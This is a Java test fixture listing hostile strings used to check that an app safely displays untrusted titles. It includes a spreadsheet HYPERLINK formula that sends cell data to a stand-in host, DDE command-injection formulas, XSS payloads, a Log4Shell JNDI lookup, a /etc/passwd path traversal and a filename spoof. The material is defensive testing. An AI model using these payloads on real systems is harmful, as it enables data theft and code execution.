package app.marquee.harness;

import java.util.List;

/** Texts that somebody could give to a video, a folder or a city to harm whoever looks at them. */
public final class HostileTexts {
    /** In characters. */
    public static final int LONGEST = 10 << 20;

    /** A mark by which a page that runs one of them is known. */
    public static final String RUN = "marqueeRan";

    public static final List<String> SHORT =
            List.of(
                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                    "+cmd|' /C calc'!A0",
                    "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "\t=1+1",
                    "<script>window." + RUN + "=1</script>",
                    "<img src=x onerror=\"window." + RUN + "=1\">",
                    "\"><svg/onload=window." + RUN + "=1>'",
                    "${jndi:ldap://evil.example/a}%n%s{0}",
                    "safe\u202egpj.exe\u2066\u2069",
                    "a\u0000b\u0007c\u001b[2Jd\r\ne\u2028f",
                    "\ud800 alone \udfff",
                    "e" + "\u0301".repeat(500),
                    "\ufdfd".repeat(60),
                    "_mnemonic __ &amp; %41",
                    "../../../../etc/passwd",
                    "NaN",
                    "   ",
                    "line\n".repeat(400));

    private HostileTexts() {}

    /** A title of ten million characters without a place to break it. */
    public static String longest() {
        return "W".repeat(LONGEST);
    }
}
